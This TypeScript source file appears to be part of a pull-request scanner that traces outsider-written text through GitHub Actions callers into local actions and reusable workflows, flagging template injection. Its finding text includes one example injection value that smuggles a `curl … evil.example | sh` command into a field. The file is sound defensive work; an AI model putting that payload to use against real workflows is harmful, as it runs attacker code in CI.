import type { Severity } from '../../signal/schema.js';
import { isAtLeast, maxSeverity } from '../../signal/severity.js';
import type { PrSnapshot } from '../../snapshot/pr-snapshot.js';
import type { KeyedFinding } from '../finding.js';
import { makeFinding } from '../finding.js';
import { walkPatch } from '../code/changed-lines.js';
import { baseNameOf, isRecord, lineOf } from '../util.js';
import { controlOf } from './contexts.js';
import { expressionContexts, findExpressions, pathText } from './expression.js';
import { envOf, scriptsOf, shellVariablesIn, triggerFactsOf, type RuleContext } from './facts.js';
import { isWorkflowPath } from './index.js';
import { envCodeHits, injectionSeverity, taintOf, triggerText } from './injection-rules.js';
import { permissionRules } from './permission-rules.js';
import type { Workflow, WorkflowJob, WorkflowStep } from './workflow.js';
import { isActionPath, localTarget, parseWorkflow } from './workflow.js';
import { pushAll } from '../../push-all.js';

/**
 * Template injection across files (gha-template-injection): a workflow passes outsider-written text
 * (`${{ github.event.pull_request.title }}`, a branch name, a comment body) through `with:` into a
 * local composite action (`uses: ./.github/actions/x`) or a local reusable workflow
 * (`uses: ./.github/workflows/y.yml`), and the callee pastes `${{ inputs.NAME }}` into a `run:`
 * script or a github-script `script:`. On its own the callee reads a maintainer's input (low); with
 * that caller it runs an outsider's text, under the caller's trigger.
 *
 * The files read are those the snapshot holds: the changed workflows and actions, both sides, and
 * the base's workflows when they were read (fetch-pr-data.ts). The flow is followed on each side
 * (base, head) and what the head has that the base did not (by key) is reported: a PR that ships
 * the caller and the callee together, changes only the callee of an existing caller, or adds a
 * caller of an existing callee. Values that cross `with:` are followed through `env.*`,
 * `steps.<id>.outputs.*` (an `echo "name=…" >> "$GITHUB_OUTPUT"` line, github-script's
 * `core.setOutput` or return value), `needs.<job>.outputs.*`, and a callee's own `inputs.*` passed on
 * to a further local action or workflow, at most MAX_HOPS calls deep.
 */

/** Workflow and action files read on one side. */
const MAX_FILES = 300;
/** Local calls followed from a workflow through actions and reusable workflows. */
const MAX_HOPS = 4;
/** env → step output → job output → … links followed inside one file. */
const MAX_LINKS = 6;
/** Expressions read to follow one `with:` value through those links. */
const MAX_EXPRESSIONS_PER_VALUE = 200;

interface CiFile {
  readonly path: string;
  readonly content: string;
  readonly workflow: Workflow;
}

/** A caller whose outsider-written text reaches an input. */
interface Origin {
  /** The workflow (or action) that expands the outsider-written context into `with:`. */
  readonly callerPath: string;
  readonly callerJob: string;
  readonly contexts: readonly string[];
  readonly severity: Severity;
  readonly triggers: string;
  /** The calls from the caller to the file whose input this is: each calling file and the `uses:` it writes. */
  readonly hops: readonly { readonly path: string; readonly uses: string }[];
}

/** What a value carries: outsider-written contexts of its own file, and tainted inputs of that file. */
interface Sources {
  readonly direct: Set<string>;
  readonly inherited: Origin[];
}

/** A `uses:` of a local action or workflow (`./…`, `.\\…`, `$/…`), quoted or not. */
const LOCAL_USES = /uses:[ \t]{0,20}['"]?(?:\.\/|\.\\|\$\/)/;

type Tainted = Map<string, Map<string, Map<string, Origin>>>;

export function crossFileInjectionFindings(snapshot: PrSnapshot): KeyedFinding[] {
  const changed = new Set<string>();
  const previous = new Map<string, string>();
  for (const file of snapshot.files) {
    if (file.status === 'unchanged') continue;
    changed.add(file.path);
    if (file.previousPath !== null) {
      changed.add(file.previousPath);
      previous.set(file.path, file.previousPath);
    }
  }
  // Nothing to follow without a local call (the common case costs no parse).
  const texts = [...snapshot.contents.filter((c) => isWorkflowOrActionPath(c.path)).flatMap((c) => [c.base, c.head]), ...snapshot.baseFiles.filter((f) => isWorkflowOrActionPath(f.path)).map((f) => f.content)];
  if (!texts.some((text) => text !== null && LOCAL_USES.test(text))) return [];
  // A modified file whose base could not be read would make all of its flows look new.
  const status = new Map(snapshot.files.map((f) => [f.path, f.status]));
  const unreadBase = new Set(snapshot.contents.filter((c) => c.base === null && status.get(c.path) !== 'added' && status.get(c.path) !== 'copied').map((c) => c.path));
  // Each text parsed once: an unchanged workflow is the same text on both sides.
  const parsed = new Map<string, Workflow | null>();
  const head = flowFindings(sideFiles(snapshot, 'head', changed, previous, parsed), changed);
  if (head.length === 0) return [];
  const before = new Set(flowFindings(sideFiles(snapshot, 'base', changed, previous, parsed), changed).map((f) => f.finding.key));
  return head.filter((f) => !before.has(f.finding.key) && !f.files.some((p) => unreadBase.has(p))).map((f) => f.finding);
}

/**
 * The cross-file findings among a PR's findings replace the callee's own low finding for the same
 * `${{ inputs.NAME }}` (same file and line): it is the same expansion, now known to carry an
 * outsider's text.
 */
export function supersedeInputInjections(findings: readonly KeyedFinding[], crossFile: readonly KeyedFinding[]): KeyedFinding[] {
  if (crossFile.length === 0) return [...findings];
  const at = new Set(crossFile.map((f) => `${f.path}\u0000${f.line ?? ''}`));
  const kept = findings.filter((f) => !(f.id === 'gha-template-injection' && f.severity === 'low' && f.line !== null && at.has(`${f.path}\u0000${f.line}`)));
  return [...kept, ...crossFile];
}

/** Patch lines scanned by callersWanted and localCalleesOf. */
const MAX_PATCH_LINES = 5000;

/**
 * Whether the PR's patch of a file makes its callers worth reading (fetch-pr-data.ts reads the base's
 * workflows then): a local action, or a reusable workflow (its patch names `workflow_call`), whose
 * added lines expand `${{ … inputs.… }}`. A workflow_dispatch workflow's inputs come from whoever
 * starts it, not from another workflow: its patch does not count.
 */
export function callersWanted(path: string, patch: string | null): boolean {
  if (patch === null) return false;
  if (!isActionPath(baseNameOf(path)) && !(isWorkflowPath(path) && patch.includes('workflow_call'))) return false;
  let lines = 0;
  let wanted = false;
  walkPatch(patch, (first, text) => {
    lines += 1;
    if (first === 43 /* + */ && text.includes('inputs') && findExpressions(text).some((span) => inputsIn(span.body).length > 0)) wanted = true;
    return !wanted && lines < MAX_PATCH_LINES;
  });
  return wanted;
}

/** `uses: ./dir` (or `.\\dir`, `$/dir`) on a patch line: the local path in group 1. */
const LOCAL_USES_PATH = /uses:[ \t]{0,20}['"]?((?:\.\/|\.\\|\$\/)[^\s'"#]{0,300})/;

/** A permission scope granted `write` on a line (`pull-requests: write`, `issues: 'write'`). */
const WRITE_SCOPE_LINE = /^[ \t]*[a-z][a-z-]{1,39}[ \t]*:[ \t]*['"]?write\b/;

/**
 * The local actions (`dir/action.yml`; the reader tries `action.yaml` after it) and reusable workflows
 * a changed workflow or action calls, when its patch adds outsider-written text
 * (`${{ github.event.pull_request.title }}`…) on some line: the files whose base version says
 * whether that text reaches a script (fetch-pr-data.ts reads those the PR does not change, a bounded
 * number). When the patch adds a write scope (`pull-requests: write`), the local actions it shows
 * too: their steps may be what needs the scope (local-action-permissions.ts). Empty for other files
 * and for patches that add neither.
 */
export function localCalleesOf(path: string, patch: string | null): string[] {
  if (patch === null || !isWorkflowOrActionPath(path)) return [];
  const targets = new Set<string>();
  let addsOutsider = false;
  let addsWrite = false;
  let lines = 0;
  walkPatch(patch, (first, text) => {
    lines += 1;
    if (first === 45 /* - */) return lines < MAX_PATCH_LINES;
    const uses = text.includes('uses:') ? LOCAL_USES_PATH.exec(text) : null;
    const target = uses === null ? null : localTarget(uses[1]!);
    if (target !== null) targets.add(isWorkflowPath(target) ? target : `${target === '' ? '' : `${target}/`}action.yml`);
    if (!addsOutsider && first === 43 /* + */ && text.includes('${{')) addsOutsider = findExpressions(text).some((span) => taintOf(span.body)?.control === 'outsider');
    if (!addsWrite && first === 43 /* + */ && text.includes('write')) addsWrite = WRITE_SCOPE_LINE.test(text);
    return lines < MAX_PATCH_LINES;
  });
  if (addsOutsider) return [...targets];
  return addsWrite ? [...targets].filter((target) => !isWorkflowPath(target)) : [];
}

/**
 * The local actions (`dir/action.yml`) that the jobs of a changed workflow run where a write scope
 * its patch adds shows no need of its own, read from the workflow's whole head content (rebuilt from
 * the base and the patch): the `uses: ./…` line is often outside the patch's context (a
 * `pull-requests: write` added at the top of a job whose comment step, forty lines down, is the
 * repository's own composite action). These are the actions settleLocalActionGrants judges the
 * finding by (local-action-permissions.ts); unread, the finding would be dropped as not judged.
 * Empty for other files and for patches that add no write scope.
 */
export function grantedLocalActionsOf(path: string, patch: string | null, head: string): string[] {
  if (patch === null || !isWorkflowPath(path) || !patchAddsWriteScope(patch)) return [];
  const parsed = parseWorkflow(head, 'workflow');
  if ('skipReason' in parsed) return [];
  const targets = new Set<string>();
  const ctx: RuleContext = { ...triggerFactsOf(parsed.workflow), content: head, path, findings: [] };
  permissionRules(ctx);
  for (const finding of ctx.findings) {
    if (finding.id !== 'gha-excessive-permissions' || finding.localActions === undefined) continue;
    for (const dirs of finding.localActions.jobs) for (const dir of dirs) targets.add(dir === '' ? 'action.yml' : `${dir}/action.yml`);
  }
  return [...targets];
}

/** Whether a patch adds a line granting a write scope (`pull-requests: write`), within MAX_PATCH_LINES. */
function patchAddsWriteScope(patch: string): boolean {
  let lines = 0;
  let adds = false;
  walkPatch(patch, (first, text) => {
    lines += 1;
    if (first === 43 /* + */ && text.includes('write')) adds = WRITE_SCOPE_LINE.test(text);
    return !adds && lines < MAX_PATCH_LINES;
  });
  return adds;
}

/** A GitHub Actions workflow or a local action (action.yml): the files whose expressions this rule follows. */
function isWorkflowOrActionPath(path: string): boolean {
  return isWorkflowPath(path) || isActionPath(baseNameOf(path));
}

/** The workflows and actions of one side: the base's workflows that were read, with the changed files' contents of that side over them. */
function sideFiles(snapshot: PrSnapshot, side: 'base' | 'head', changed: ReadonlySet<string>, previous: ReadonlyMap<string, string>, parsed: Map<string, Workflow | null>): Map<string, CiFile> {
  const texts = new Map<string, string>();
  for (const file of snapshot.baseFiles) if (isWorkflowOrActionPath(file.path)) texts.set(file.path, file.content);
  // A changed file whose content was not read is unknown at head, not its base version.
  if (side === 'head') for (const path of changed) texts.delete(path);
  for (const content of snapshot.contents) {
    const path = side === 'base' ? (previous.get(content.path) ?? content.path) : content.path;
    if (!isWorkflowOrActionPath(path)) continue;
    const text = content[side];
    if (text === null) texts.delete(path);
    else texts.set(path, text);
  }
  const files = new Map<string, CiFile>();
  for (const [path, content] of texts) {
    if (files.size >= MAX_FILES) break;
    const kind = isActionPath(baseNameOf(path)) ? 'action' : 'workflow';
    const key = `${kind}\u0000${content}`;
    let workflow = parsed.get(key);
    if (workflow === undefined) {
      const result = parseWorkflow(content, kind);
      workflow = 'skipReason' in result ? null : result.workflow;
      parsed.set(key, workflow);
    }
    if (workflow !== null) files.set(path, { path, content, workflow });
  }
  return files;
}


function calleeOf(files: ReadonlyMap<string, CiFile>, uses: string, level: 'job' | 'step'): CiFile | null {
  const target = localTarget(uses);
  if (target === null) return null;
  if (level === 'job') return isWorkflowPath(target) ? (files.get(target) ?? null) : null;
  const dir = target === '' ? '' : `${target}/`;
  return files.get(`${dir}action.yml`) ?? files.get(`${dir}action.yaml`) ?? null;
}

/** One local call: where it is written, whom it calls, what it passes. */
interface Call {
  readonly job: WorkflowJob;
  /** The step that calls (an action), or null for a job that calls a reusable workflow. */
  readonly step: WorkflowStep | null;
  readonly stepIndex: number;
  readonly uses: string;
  readonly callee: CiFile;
  readonly with: Readonly<Record<string, unknown>>;
}

function callsOf(file: CiFile, files: ReadonlyMap<string, CiFile>): Call[] {
  const calls: Call[] = [];
  for (const job of file.workflow.jobs) {
    if (job.uses !== null) {
      const callee = calleeOf(files, job.uses, 'job');
      if (callee !== null && callee.path !== file.path) calls.push({ job, step: null, stepIndex: job.steps.length, uses: job.uses, callee, with: isRecord(job.raw.with) ? job.raw.with : {} });
    }
    job.steps.forEach((step, stepIndex) => {
      if (step.uses === null) return;
      const callee = calleeOf(files, step.uses, 'step');
      if (callee !== null && callee.path !== file.path) calls.push({ job, step, stepIndex, uses: step.uses, callee, with: step.with });
    });
  }
  return calls;
}

/** Follows what a value of `file` can carry, within its job (and the jobs it needs). */
class Resolver {
  constructor(
    private readonly file: CiFile,
    private readonly tainted: Tainted,
  ) {}

  /** Expressions left to read for the current top-level value: links can fan out (env values naming env values). */
  #left = 0;

  /** The sources of every `${{ }}` in a text, seen from `job` before step `stepIndex`. */
  ofText(text: string, job: WorkflowJob, stepIndex: number, depth: number): Sources {
    const out: Sources = { direct: new Set(), inherited: [] };
    if (depth === 0) this.#left = MAX_EXPRESSIONS_PER_VALUE;
    if (depth > MAX_LINKS) return out;
    for (const span of findExpressions(text)) {
      if (this.#left <= 0) break;
      this.#left -= 1;
      this.#ofExpression(span.body, job, stepIndex, depth, out);
    }
    return out;
  }

  #ofExpression(body: string, job: WorkflowJob, stepIndex: number, depth: number, out: Sources): void {
    const candidates = expressionContexts(body);
    for (const { path, serialized } of candidates) {
      if (controlOf(path, serialized) === 'outsider') {
        out.direct.add(pathText(path));
        continue;
      }
      const [head, name, third, fourth] = path;
      if (head === 'inputs') {
        const inputs = this.tainted.get(this.file.path);
        if (inputs === undefined) continue;
        if (path.length === 2 && name !== undefined && name !== '*') pushAll(out.inherited, inputs.get(name)?.values() ?? []);
        else if ((path.length === 1 && serialized) || name === '*') for (const origins of inputs.values()) pushAll(out.inherited, origins.values());
      } else if (head === 'env' && path.length === 2 && name !== undefined) {
        const step = job.steps[stepIndex] ?? null;
        const value = [...envOf(this.file.workflow, job, step)].find(([key]) => key.toLowerCase() === name)?.[1];
        if (value !== undefined) merge(out, this.ofText(value, job, stepIndex, depth + 1));
      } else if (head === 'steps' && third === 'outputs' && path.length === 4 && name !== undefined && fourth !== undefined) {
        const index = job.steps.findIndex((s, i) => i < stepIndex && s.id?.toLowerCase() === name);
        const step = job.steps[index];
        if (step !== undefined) merge(out, this.#ofStepOutput(job, step, index, fourth, depth + 1));
      } else if (head === 'needs' && third === 'outputs' && path.length === 4 && name !== undefined && fourth !== undefined) {
        const needed = this.file.workflow.jobs.find((j) => j.id.toLowerCase() === name && j !== job);
        const outputs = needed !== undefined && isRecord(needed.raw.outputs) ? needed.raw.outputs : {};
        const value = Object.entries(outputs).find(([key]) => key.toLowerCase() === fourth)?.[1];
        if (needed !== undefined && typeof value === 'string') merge(out, this.ofText(value, needed, needed.steps.length, depth + 1));
      }
    }
  }

  /** What a step writes into its output `name`: `echo "name=…" >> "$GITHUB_OUTPUT"`, `::set-output`, github-script's setOutput or return. */
  #ofStepOutput(job: WorkflowJob, step: WorkflowStep, index: number, name: string, depth: number): Sources {
    const out: Sources = { direct: new Set(), inherited: [] };
    if (depth > MAX_LINKS) return out;
    const env = envOf(this.file.workflow, job, step);
    for (const script of scriptsOf(step)) {
      const shell = step.run === script;
      for (const line of script.split('\n').slice(0, 2000)) {
        if (!writesOutput(line, name, shell)) continue;
        merge(out, this.ofText(line, job, index, depth));
        for (const variable of shellVariablesIn(line)) {
          const value = env.get(variable);
          if (value !== undefined) merge(out, this.ofText(value, job, index, depth + 1));
        }
        if (!shell) for (const path of payloadPaths(line)) if (controlOf(path, false) === 'outsider') out.direct.add(pathText(path));
      }
    }
    return out;
  }
}

const OUTPUT_LINE = /^\s*(?:echo|printf)\s+(?:-\w{1,4}\s+)?["']?([A-Za-z_][\w-]{0,60})=/;
const SET_OUTPUT = /::set-output\s+name=([\w-]{1,60})::/;
const JS_SET_OUTPUT = /\bsetOutput\s*\(\s*['"`]([\w-]{1,60})['"`]/;

function writesOutput(line: string, name: string, shell: boolean): boolean {
  if (shell) {
    const echoed = line.includes('GITHUB_OUTPUT') ? OUTPUT_LINE.exec(line) : null;
    const legacy = SET_OUTPUT.exec(line);
    return (echoed !== null && echoed[1]!.toLowerCase() === name) || (legacy !== null && legacy[1]!.toLowerCase() === name);
  }
  const set = JS_SET_OUTPUT.exec(line);
  if (set !== null) return set[1]!.toLowerCase() === name;
  return name === 'result' && /^\s*return\s/.test(line);
}

/** `context.payload.pull_request.title` in a github-script line, as the `github.event` path it is. */
function payloadPaths(line: string): string[][] {
  const paths: string[][] = [];
  for (const m of line.matchAll(/\bcontext\.payload((?:\.[A-Za-z_]\w{0,60}){1,6})/g)) paths.push(['github', 'event', ...m[1]!.slice(1).toLowerCase().split('.')]);
  return paths;
}

function merge(into: Sources, from: Sources): void {
  for (const context of from.direct) into.direct.add(context);
  pushAll(into.inherited, from.inherited);
}

function originKey(origin: Origin): string {
  return `${origin.callerPath}\u0000${origin.callerJob}`;
}

/** Which caller's text reaches which input of which file, to a fixed point (MAX_HOPS calls deep). */
function taintInputs(files: ReadonlyMap<string, CiFile>): Tainted {
  const tainted: Tainted = new Map();
  const add = (path: string, input: string, origin: Origin): boolean => {
    let inputs = tainted.get(path);
    if (inputs === undefined) tainted.set(path, (inputs = new Map()));
    let origins = inputs.get(input);
    if (origins === undefined) inputs.set(input, (origins = new Map()));
    const key = originKey(origin);
    const seen = origins.get(key);
    if (seen !== undefined && isAtLeast(seen.severity, origin.severity)) return false;
    origins.set(key, origin);
    return true;
  };
  const calls = new Map([...files.values()].map((file) => [file.path, callsOf(file, files)]));
  for (let round = 0; round <= MAX_HOPS; round += 1) {
    let grew = false;
    for (const file of files.values()) {
      const resolver = new Resolver(file, tainted);
      const facts = triggerFactsOf(file.workflow);
      for (const call of calls.get(file.path) ?? []) {
        for (const [input, value] of Object.entries(call.with)) {
          if (typeof value !== 'string') continue;
          const sources = resolver.ofText(value, call.job, call.stepIndex, 0);
          const hop = { path: file.path, uses: call.uses };
          if (sources.direct.size > 0) {
            const origin: Origin = { callerPath: file.path, callerJob: call.job.id, contexts: [...sources.direct], severity: injectionSeverity(facts, 'outsider'), triggers: triggerText(facts), hops: [hop] };
            grew = add(call.callee.path, input.toLowerCase(), origin) || grew;
          }
          for (const origin of sources.inherited) {
            if (origin.hops.length >= MAX_HOPS || origin.hops.some((h) => h.path === call.callee.path)) continue;
            grew = add(call.callee.path, input.toLowerCase(), { ...origin, hops: [...origin.hops, hop] }) || grew;
          }
        }
      }
    }
    if (!grew) break;
  }
  return tainted;
}

interface FlowFinding {
  readonly finding: KeyedFinding;
  /** The files the flow runs through (caller, intermediate files, callee). */
  readonly files: readonly string[];
}

/** The input names an expression's value carries (`*`: all of them, `toJSON(inputs)`). */
function inputsIn(body: string): string[] {
  const candidates = expressionContexts(body);
  const names: string[] = [];
  for (const { path, serialized } of candidates) {
    if (path[0] !== 'inputs') continue;
    if (path.length === 2) names.push(path[1]!);
    else if (path.length === 1 && serialized) names.push('*');
  }
  return names;
}

/** Where a callee runs an input: the text to find its line by, and how the finding words it. */
interface Sink {
  /** The text on the callee's line (an expression body or a script line). */
  readonly needle: string;
  readonly title: string;
  /** What the callee does with the input, after "and …". */
  readonly does: string;
  readonly fix: string;
  readonly subject: string;
}

function flowFindings(files: ReadonlyMap<string, CiFile>, changed: ReadonlySet<string>): FlowFinding[] {
  const tainted = taintInputs(files);
  const byKey = new Map<string, FlowFinding>();
  const report = (callee: CiFile, sink: Sink, reached: ReadonlyMap<string, { origin: Origin; input: string }>): void => {
    for (const { origin, input } of reached.values()) {
      const flow = flowFinding(callee, sink, input, origin, files, changed);
      if (flow === null) continue;
      const seen = byKey.get(flow.finding.key);
      if (seen === undefined || maxSeverity(seen.finding.severity, flow.finding.severity) !== seen.finding.severity) byKey.set(flow.finding.key, flow);
    }
  };
  for (const [calleePath, inputs] of tainted) {
    const callee = files.get(calleePath);
    if (callee === undefined) continue;
    /** The callers that reach the inputs an expression carries, by caller. */
    const reaching = (body: string): Map<string, { origin: Origin; input: string }> => {
      const reached = new Map<string, { origin: Origin; input: string }>();
      for (const name of inputsIn(body)) {
        const entries = name === '*' ? [...inputs] : [[name, inputs.get(name)] as const];
        for (const [input, origins] of entries) for (const origin of origins?.values() ?? []) reached.set(originKey(origin), { origin, input });
      }
      return reached;
    };
    for (const job of callee.workflow.jobs) {
      for (const step of job.steps) {
        const where = `${job.id === 'composite' && callee.workflow.kind === 'action' ? 'the action' : `job ${job.id}`}${step.name ? `, step "${step.name}"` : ''}`;
        for (const script of scriptsOf(step)) {
          const sink = step.run === script ? 'a run: script' : 'an actions/github-script script';
          const seen = new Set<string>();
          for (const span of findExpressions(script)) {
            if (seen.has(span.body)) continue;
            seen.add(span.body);
            const reached = reaching(span.body);
            if (reached.size === 0) continue;
            report(
              callee,
              {
                needle: span.body,
                title: `\${{ ${span.body} }} is expanded into ${sink}`,
                does: `${where} pastes \${{ ${span.body} }} into ${sink} before it runs`,
                fix: `move the input into env: (\`env: VALUE: \${{ ${span.body} }}\`) and read "$VALUE" (or process.env.VALUE) in the script`,
                subject: `${job.id}:${span.body}`,
              },
              reached,
            );
          }
        }
        // The input passed through env: (the fix) and then run as code: `eval "$CMD"`.
        const hits = envCodeHits(callee.workflow, job, step, (body) => {
          const reached = reaching(body);
          return reached.size > 0 ? { text: `\${{ ${body} }}`, root: reached } : null;
        });
        for (const hit of hits) {
          report(
            callee,
            {
              needle: hit.line,
              title: `The input in $${hit.name} is run as code in ${hit.sink}`,
              does: `${where} passes it through env: as ${hit.source} and then runs $${hit.name} as code in ${hit.sink}: \`${hit.line.slice(0, 120)}\``,
              fix: 'never evaluate the text; match it against a fixed set of commands and run those',
              subject: `${job.id}:env-code:${hit.name}:${hit.line}`,
            },
            hit.root,
          );
        }
      }
    }
  }
  return [...byKey.values()];
}

function flowFinding(callee: CiFile, sink: Sink, input: string, origin: Origin, files: ReadonlyMap<string, CiFile>, changed: ReadonlySet<string>): FlowFinding | null {
  // Where the PR makes the flow: the callee's line when the PR changes the callee, else the `uses:` of the first changed caller.
  const hop = origin.hops.find((h) => changed.has(h.path));
  const path = changed.has(callee.path) ? callee.path : hop?.path;
  if (path === undefined) return null;
  const line = path === callee.path ? lineOf(callee.content, sink.needle) : lineOf(files.get(path)?.content, hop!.uses);
  const through = origin.hops.length > 1 ? ` (through ${origin.hops.slice(1).map((h) => h.path).join(', ')})` : '';
  const kind = callee.workflow.kind === 'action' ? 'local action' : 'reusable workflow';
  return {
    files: [...origin.hops.map((h) => h.path), callee.path],
    finding: makeFinding({
      id: 'gha-template-injection',
      severity: origin.severity,
      title: `${sink.title}, and ${origin.callerPath} passes outsider-written text into it`,
      detail:
        `${origin.callerPath} (job ${origin.callerJob}, on ${origin.triggers}) passes ${origin.contexts.join(', ')} as input "${input}" to the ${kind} ${callee.path}${through}, and ${sink.does}. ` +
        'An input reads as the maintainers\' choice, but with this caller anyone who opens an issue or PR, comments, or names a branch writes it: a value like `a"; curl -sSf https://evil.example | sh; #` becomes code. ' +
        `Fix: in ${callee.path}, ${sink.fix}; or stop passing outsider-written text to it.`,
      path,
      line,
      subject: `cross:${callee.path}:${sink.subject}<-${origin.callerPath}:${origin.callerJob}`,
    }),
  };
}
